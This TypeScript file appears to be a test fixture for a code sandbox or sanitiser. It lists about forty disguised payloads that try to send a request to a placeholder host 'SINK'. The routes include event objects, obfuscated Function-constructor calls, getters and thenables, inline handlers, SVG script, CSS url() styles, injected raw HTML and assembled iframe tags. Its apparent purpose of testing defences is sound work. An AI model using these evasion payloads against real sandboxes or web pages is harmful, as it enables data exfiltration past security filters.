import { asView, type Attack, inEffect } from "./attack"

const leak = "fetch('SINK',{mode:'no-cors'})"
const text = JSON.stringify(leak)
const unchecked = { codes: undefined }
const elementOf = (body: string) => `const node = document.querySelector("p"); ${body}`

/** The same ends by detours: through events, elements, data, getters, tags, spreads and styles. */
export const disguise: Attack[] = [
  inEffect("event view", elementOf('node.addEventListener("click", (event) => event.view.fetch("SINK", { mode: "no-cors" })); node.click()')),
  inEffect("event target chain", elementOf('node.addEventListener("click", (event) => event.target.ownerDocument.defaultView.fetch("SINK", { mode: "no-cors" })); node.click()')),
  inEffect("composed path", elementOf('node.addEventListener("click", (event) => event.composedPath().at(-1).fetch("SINK", { mode: "no-cors" })); node.click()')),
  inEffect("root node", elementOf('node.getRootNode().defaultView.fetch("SINK", { mode: "no-cors" })')),
  inEffect("parent nodes to the document", elementOf('let n = node; while (n.parentNode) n = n.parentNode; n["default" + "View"].fetch("SINK", { mode: "no-cors" })')),
  inEffect("tagged template", `const run = (parts, code) => (() => {})["constr" + "uctor"](code)(); run\`\${${text}}\``),
  inEffect("getter in data", `const row = { get total() { return (() => {})["constr" + "uctor"](${text})() } }; String(row.total)`),
  inEffect("toString of a cell", `const row = { toString() { return (() => {})["constr" + "uctor"](${text})() } }; \`\${row}\``),
  inEffect("valueOf in Intl", `new Intl.NumberFormat("en").format({ valueOf() { (() => {})["constr" + "uctor"](${text})(); return 1 } })`),
  inEffect("toJSON", `JSON.stringify({ toJSON() { (() => {})["constr" + "uctor"](${text})() } })`),
  inEffect("thenable", `Promise.resolve({ then(resolve) { (() => {})["constr" + "uctor"](${text})(); resolve() } })`),
  inEffect("iterator protocol", `[...{ *[Symbol.iterator]() { (() => {})["constr" + "uctor"](${text})() } }]`),
  inEffect("toPrimitive", `+{ [Symbol.toPrimitive]() { return (() => {})["constr" + "uctor"](${text})() } }`),
  inEffect("replacer function", `"x".replace("x", () => (() => {})["constr" + "uctor"](${text})())`),
  inEffect("Reflect.get", `Reflect.get(globalThis, "fetch")("SINK", { mode: "no-cors" })`),
  inEffect("proxy of the window", `new Proxy(globalThis, { get: (target, name) => target[name].bind(target) }).fetch("SINK", { mode: "no-cors" })`),
  inEffect("class field of a constructor", `class A { f = A["constr" + "uctor"](${text})() } new A()`),
  inEffect("bound constructor", `Function.prototype.bind.call((() => {})["constr" + "uctor"], null)(${text})()`),
  inEffect("constructor from a regular expression", `const [name] = /c.{9}r/.exec("a constructor"); [][name][name](${text})()`, unchecked),
  inEffect("constructor by entries", `for (const name of ["con", "structor"].reduce((all, part) => [all + part], "")) [][name][name](${text})()`, unchecked),
  inEffect("inline handler attribute", elementOf(`node.setAttribute("onclick", ${text}); node.click()`)),
  inEffect("handler of a created attribute", elementOf(`const a = document.createAttribute("onclick"); a.value = ${text}; node.setAttributeNode(a); node.click()`)),
  inEffect("range fragment", elementOf('node.append(document.createRange().createContextualFragment("<img src=SINK>"))')),
  inEffect("DOMParser and adoption", elementOf('const page = new DOMParser().parseFromString("<img src=SINK>", "text/html"); node.append(page.body.firstChild)')),
  inEffect("svg script", elementOf(`const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.textContent = ${text}; node.append(s)`)),
  inEffect("svg animate of href", elementOf('node.parentNode.append(Object.assign(document.createElement("div"), { innerHTML: "<svg><image><animate attributeName=href values=SINK /></image></svg>" }))')),
  inEffect("style by cssText", elementOf('node.style.cssText = "background:url(SINK);width:9px;height:9px"')),
  inEffect("style by setProperty", elementOf('node.style.setProperty("background-image", "url(SINK)")')),
  inEffect("style attribute", elementOf('node.setAttribute("style", "background:url(SINK)")')),
  inEffect("rule into the frame's sheet", 'const e = document.createElement("style"); document.head.append(e); e.sheet.insertRule("body{background:url(SINK)}")'),
  inEffect("image set", elementOf('node.style.backgroundImage = "image-set(\'SINK\' 1x)"')),
  inEffect("cursor", elementOf('node.style.cursor = "url(SINK), auto"; node.style.background = "url(SINK)"')),
  asView("spread of rows", "<p {...{ ...data[0], style: { background: \"url(SINK)\" } }}>x</p>"),
  asView("raw html from data", '<div {...Object.fromEntries([["danger" + "ouslySetInnerHTML", { __html: "<img src=SINK>" }]])} />', { codes: ["forbidden_property"] }),
  asView("foreign object", '<svg width="50" height="50"><foreignObject width="50" height="50"><img src="SINK" /></foreignObject></svg>'),
  asView("svg fill", '<svg><rect width="9" height="9" style={{ fill: "red", maskImage: "url(SINK)" }} /></svg>'),
  asView("element by a variable", '[0].map((i) => { const Tag = ["if", "rame"].join(""); return <Tag key={i} src="SINK" /> })', unchecked),
  asView("createElement by parts", 'React.createElement(["i", "frame"].join(""), { src: "SINK" })'),
  asView("class name with an address", '<p className="bg-[url(SINK)]">x</p>', { codes: ["external_url"], hasNoControl: "the open page has no utility styles" }),
  asView("css variable", '<p style={{ "--x": "url(SINK)", backgroundImage: "var(--x)", width: 9, height: 9 }}>x</p>'),
  asView("cloned element", 'React.cloneElement(<img alt="" />, { src: "SINK" })', unchecked),
  asView("preloading link", '<link rel="preload" as="image" href="SINK" />'),
  asView("meta refresh by an element", '<meta httpEquiv="refresh" content="0;url=SINK" />', { hasNoControl: "React hoists it after the page has loaded" }),
]
